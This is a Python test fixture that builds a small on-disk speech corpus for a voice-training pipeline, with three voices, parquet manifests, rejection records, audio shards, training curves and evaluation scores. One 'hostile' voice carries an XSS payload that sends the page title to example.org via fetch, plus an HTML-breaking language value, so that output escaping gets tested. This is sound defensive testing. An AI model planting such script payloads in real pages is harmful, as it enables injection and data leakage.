"""A corpus on disk as the flow and a run leave it, small: three voices with files, in every file's own format."""

import io
import json
import math
import tarfile

import numpy as np
import pyarrow.parquet as pq

from gsv_core.text.front_end import phonemise
from pipelines.engines.audio_writer import encode_audio
from pipelines.engines.flac import encode_flac
from pipelines.rows import (
    MANIFEST_SCHEMA,
    RATE_HZ,
    REJECTION_SCHEMA,
    SELECTION_SCHEMA,
    Account,
    Rejection,
    SelectionRow,
    table_of,
)
from pipelines.units import Committed

SAID = {"en": "The quiet river carried leaves.", "zh": "今天天气很好，我们一起去公园散步吧。"}
HOSTILE = "<script>fetch('https://example.org/?'+document.title)</script>"
ENGINES = {"recogniser": "pocketsphinx 5.1.0", "speaker_verifier": "resemblyzer 0.1.4", "quality": "DNSMOS P.835"}


def make_corpus(corpus):
    """`ada` trained; `linus` prepared; a hostile one whose every text tries to leave its place."""
    corpus.mkdir(parents=True)
    about = {"schema_version": 1, "corpus_digest": "d" * 64, "speech": None}
    about["engines"] = {"recogniser": "pocketsphinx", "recogniser_model": None, "align_models": {}, "quality": "dnsmos"}
    about["units"] = ["a" * 20, "b" * 20, "e" * 20]
    about["tools"] = {"torch": "2.8.0", "ray": "2.60.0"}
    _json(corpus / "corpus.json", about)
    ada = _voice(corpus, "ada", clips=14, language="en", unit="a" * 20)
    _voice(corpus, "linus", clips=6, language="zh", unit="b" * 20)
    _voice(corpus, "hostile", clips=2, language='en"><b>', unit="e" * 20, text=HOSTILE, uri=f"/in/{HOSTILE}\udcff.wav")
    unread = Rejection(row_id="x4", voice="linus", uri="/in/notes.mp3", stage="ingest", reason="unreadable")
    _parquet(corpus / "voices" / "linus" / "rejected" / "inventory.parquet", [unread], REJECTION_SCHEMA)
    _json(corpus / "voices" / "linus" / "voice.json", {"voice": "linus", "display_name": "Linus (radio)"})
    # What an older config left behind must not be counted twice.
    _voice(corpus, "gone", clips=3, language="en", unit="9" * 20, current=False)
    _voice(corpus, "ada", clips=3, language="en", unit="f" * 20, current=False)
    _run(corpus / "voices" / "ada", ada)
    return corpus


def tone(seconds, pitch_hz=220.0, rate_hz=RATE_HZ):
    time = np.arange(round(seconds * rate_hz)) / rate_hz
    return (0.3 * np.sin(2 * math.pi * pitch_hz * time) * np.hanning(len(time))).astype(np.float32)


def _phonemes(language):
    """What phonemise writes into a row; nothing for a language there is no front end for."""
    if language not in SAID:
        return {}
    spoken = phonemise(SAID[language], language)
    spans = [{"language": span.language, "num_phonemes": span.num_phonemes} for span in spoken.spans]
    return {"phonemes": spoken.phonemes, "spans": spans}


def _voice(
    corpus, voice, *, clips, language, unit, text="The quiet river carried leaves.", uri="/in/a.wav", current=True
):
    folder = corpus / "voices" / voice
    generator = np.random.default_rng(clips)
    lines, members = [], []
    for index in range(clips):
        seconds = float(generator.uniform(2, 9))
        clip = f"{unit[0]}{index:019x}"
        samples = round(seconds * RATE_HZ)
        lines.append(
            {
                "clip_id": clip,
                "recording_id": "r" * 20,
                "voice": voice,
                "start_sample": index * 400_000,
                "num_samples": samples,
                "text": text,
                "language": language,
                "confidence": 0.9,
                "given": index % 2 == 0,
                "level_lufs": float(generator.normal(-16, 0.7)),
                "snr_db": float(generator.normal(32, 5)),
                "phonemes_per_second": float(generator.normal(12, 2)),
                "quality": None if index == 3 else float(generator.normal(3.2, 0.2)),
                **_phonemes(language),
                "uri": uri.encode("utf-8", "replace").decode(),
                "shard": f"{unit}-00000.tar",
            }
        )
        members.append((f"{clip}.flac", encode_flac(tone(min(seconds, 3.0), 200 + 20 * index), RATE_HZ)))
    kept = sum(line["num_samples"] for line in lines)
    rejections = [
        Rejection(row_id="x1", voice=voice, uri=lines[0]["uri"], stage="screen", reason="low_snr", detail="7.2 dB < 15",
                  start_sample=0, num_samples=96_000),
        Rejection(row_id="x2", voice=voice, uri=lines[0]["uri"], stage="transcribe", reason="no_recogniser",
                  start_sample=96_000, num_samples=64_000),
        Rejection(row_id="x3", voice=voice, uri="/in/empty.wav", stage="normalise", reason="empty"),
    ]  # fmt: skip
    account = Account(recording_id="r" * 20, voice=voice, uri=lines[0]["uri"], digest="9" * 64,
                      duration_samples=kept + 160_000 + 80_000, kept_samples=kept, rejected_samples=160_000,
                      non_speech_samples=80_000)  # fmt: skip
    done = Committed(unit_id=unit, voice=voice, config_digest="c" * 64, files={}, accounts=(account,), kept=clips,
                     rejected=3, counts={})  # fmt: skip
    _parquet(folder / "manifest" / f"{unit}.parquet", lines, MANIFEST_SCHEMA)
    _parquet(folder / "rejected" / f"{unit}.parquet", rejections, REJECTION_SCHEMA)
    (folder / "shards").mkdir(parents=True, exist_ok=True)
    with tarfile.open(folder / "shards" / f"{unit}-00000.tar", "w") as shard:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            shard.addfile(info, io.BytesIO(data))
    (folder / "units").mkdir(parents=True, exist_ok=True)
    (folder / "units" / f"{unit}.done").write_text(done.to_json())
    if current:
        selection = [
            SelectionRow(clip_id=line["clip_id"], unit_id=unit, keep=index != 1, prompt=index == 0,
                         reason="other_speaker" if index == 1 else "", num_samples=line["num_samples"],
                         split="held_out" if index in (2, 5) else "train")
            for index, line in enumerate(lines)
        ]  # fmt: skip
        _parquet(folder / "selection" / f"{'5' * 64}.parquet", selection, SELECTION_SCHEMA)
    return lines


def _run(folder, lines):
    run = folder / "runs" / ("7" * 20)
    run.mkdir(parents=True)
    held_out = [lines[2], lines[5]]
    _json(run / "run.json", {"schema_version": 1, "run_id": run.name, "voice": "ada", "release": "nano", "seed": 0,
          "base_digest": "8" * 64, "selection_digest": "5" * 64, "seconds_train": 61.5, "seconds_held_out": 9.5,
          "utterances_train": 11, "utterances_held_out": 2,
          "recipe": {"semantic_steps": 60, "wave": {"steps": 80, "learning_rate": 1e-4}}})  # fmt: skip
    _json(run / "done.json", {})
    _json(run / "cost.json", {"train_seconds": 41.2, "steps": 140, "gpu_seconds": 0})
    records = []
    for step in range(2, 81, 2):
        wobble = math.sin(step * 1.7) * 0.15
        semantic = {"cross_entropy": 3.6 + 3.3 * math.exp(-step / 25) + wobble}
        wave = {"mel": 28 + 40 * math.exp(-step / 18) + 8 * wobble, "kl": 2.5 + wobble, "adversarial": 2 + wobble}
        records.append({"phase": "semantic", "step": step, "kind": "train", "metrics": semantic})
        records.append({"phase": "wave", "step": step, "kind": "train", "metrics": wave})
        if step % 20 == 0:
            value = {"cross_entropy": 3.9 + 3.1 * math.exp(-step / 25)}
            records.append({"phase": "semantic", "step": step, "kind": "held_out", "metrics": value})
            value = {"mel": 31 + 38 * math.exp(-step / 18), "loudness": None}
            records.append({"phase": "wave", "step": step, "kind": "held_out", "metrics": value})
    # A resumed run writes some steps again: the later line counts.
    records.append({"phase": "wave", "step": 80, "kind": "held_out", "metrics": {"mel": 30.0}})
    (run / "curves.jsonl").write_text("".join(json.dumps(record) + "\n" for record in records))
    pairs = []
    for number, (semantic, wave) in enumerate([(40, 40), (40, 80), (80, 40), (80, 80)]):
        names = (f"semantic-s{semantic:06d}", f"wave-s{wave:06d}")
        audio = f"audio/{'+'.join(names)}"
        utterances = []
        for line in held_out:
            path = run / audio / f"{line['clip_id']}.wav"
            path.parent.mkdir(parents=True, exist_ok=True)
            encode_audio(path, tone(2.0, 330), RATE_HZ)
            utterances.append({"clip_id": line["clip_id"], "text": line["text"], "recognised": "the chi it and",
                               "character_error_rate": 0.84, "audio": f"{audio}/{path.name}"})  # fmt: skip
        pairs.append({"semantic": names[0], "wave": names[1], "character_error_rate": 0.95 - 0.02 * number,
                      "word_error_rate": 1.0, "likeness": 0.41 + 0.01 * number, "quality": 1.3, "duration_ratio": 1.2,
                      "mel_cepstral_distance": 11.2 - 0.3 * number, "score": 0.2 + 0.03 * number,
                      "utterances": utterances})  # fmt: skip
    ceiling = {"character_error_rate": 0.12, "word_error_rate": 0.2, "likeness": 0.92, "quality": 3.2, "score": None}
    _json(run / "scores.json", {"schema_version": 1, "engines": ENGINES, "independent": False,
          "speech": "The release nano is built from a seed: its speech is not speech.", "pairs": pairs,
          "ceiling": ceiling, "base": {"character_error_rate": 0.99, "likeness": 0.39, "quality": 1.2},
          "best": {"semantic": "semantic-s000080", "wave": "wave-s000080", "rule": "highest score"}})  # fmt: skip
    _json(run / "prompt.json", {"clip_id": lines[0]["clip_id"], "text": lines[0]["text"], "language": "en"})
    (run / "prompt.flac").write_bytes(encode_flac(tone(3.0, 180), RATE_HZ))
    # An unfinished run is nobody's business.
    _json(folder / "runs" / ("6" * 20) / "run.json", {"run_id": "6" * 20, "seconds_train": 1e6})


def _parquet(path, rows, schema):
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table_of(rows, schema), path)


def _json(path, record):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record), encoding="utf-8")
